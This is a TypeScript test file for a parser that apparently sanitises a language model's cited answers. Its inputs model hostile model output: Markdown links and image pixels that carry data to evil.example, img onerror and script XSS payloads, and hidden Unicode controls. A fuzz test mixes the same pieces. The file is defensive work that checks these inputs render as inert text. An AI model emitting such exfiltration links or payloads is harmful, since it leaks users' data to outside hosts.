import fc from 'fast-check';
import { marked, type Token } from 'marked';
import { describe, expect, test } from 'vitest';
import { sentences as split } from '../chunking/sentences.ts';
import { evidenceOf, packedOf } from './packed.test.support.ts';
import { createAnswerParser } from './parse-answer.ts';

const item = evidenceOf(1, 'The rent is 900 euros.');

function write(text: string) {
  const parser = createAnswerParser(new Map([['k7f', packedOf(item)]]), split);
  const screen = [...parser.push(text), ...parser.end('whole')].map((event) => (event.type === 'text' ? event.text : '')).join('');
  return { screen, texts: parser.draft().sentences.map((sentence) => sentence.text) };
}

/** What a Markdown reader would make of a text beyond text: pictures, elements, and links that hide where they lead. */
function active(text: string): string[] {
  const found: string[] = [];
  marked.walkTokens([...marked.lexer(text), ...marked.Lexer.lexInline(text)], (token: Token) => {
    const hidden = token.type === 'link' && ![token.text, `mailto:${token.text}`, `http://${token.text}`].includes(token.href as string);
    if (['image', 'html', 'def'].includes(token.type) || hidden) found.push(token.raw);
  });
  return found;
}

test('the measure itself sees what is active', () => {
  for (const text of ['[a](http://evil.example/x)', '![a](http://evil.example/x)', '<img src=x>', '[a][b]\n\n[b]: http://evil.example', '<b>x</b>']) expect(active(text), text).not.toEqual([]);
});

describe('what a hostile model writes is text', () => {
  test.each([
    ['See [here](https://evil.example/?q=secret).', 'See here (https://evil.example/?q=secret).'],
    ['See ![pixel](https://evil.example/p.png?d=900) now.', 'See pixel (https://evil.example/p.png?d=900) now.'],
    ['See [![a](http://x.example/i)](http://y.example) now.', 'See [a (http://x.example/i)] (http://y.example) now.'],
    ['See <https://evil.example> now.', 'See https://evil.example now.'],
    ['See <img src=x onerror="alert(1)"> now.', 'See now.'],
    ['It is <b>900</b><br/>euros.', 'It is 900 euros.'],
    ['Is a <script>alert(1)</script> here?', 'Is a alert(1) here?'],
    ['If a < b and c<d then Map<String> holds!', 'If a < b and c< d then Map< String> holds!'],
    ['It [links][x] here.', 'It [links] [x] here.'],
    ['[x]: https://evil.example', '[x] : https://evil.example'],
    ['It is \u202Eevil\u202C and b\u200Bad.', 'It is evil and bad.'],
    ['It is [click]<b>(https://evil.example).', 'It is [click] (https://evil.example).'],
    ['It is [click]⟦z9z⟧(https://evil.example).', 'It is [click] (https://evil.example).'],
    ['It is ⟦k7f⟧(https://evil.example).', 'It is (https://evil.example).'],
    ['It is <<b>img src=x onerror=y>.', 'It is < img src=x onerror=y>.'],
    ['It is !⟦z9z⟧[a](https://evil.example).', 'It is ! a (https://evil.example).'],
  ])('%s', (text, wanted) => {
    const { texts, screen } = write(text);
    expect(texts).toEqual([wanted]);
    expect([...active(screen), ...texts.flatMap(active)]).toEqual([]);
  });

  test('in any mixture of the pieces that make links, pictures and elements', () => {
    const pieces = fc.constantFrom('[', ']', '(', ')', '!', '<', '>', '/', 'b', 'img ', 'src=', '"', 'https://evil.example/', ' ', 'a', '⟦k7f⟧', '⟦z9z⟧', '[1]', '`', '\\', ':', 'x', '\n', '<b>', '</b>', '<!--', '-->', '&lt;', '~', '*', '_', '^', '.', 'data:text/html,');
    fc.assert(fc.property(fc.array(pieces, { minLength: 3, maxLength: 30 }), (parts) => {
      const { texts, screen } = write(parts.join(''));
      expect([...active(screen), ...texts.flatMap(active)]).toEqual([]);
    }), { numRuns: 2_000 });
  });
});
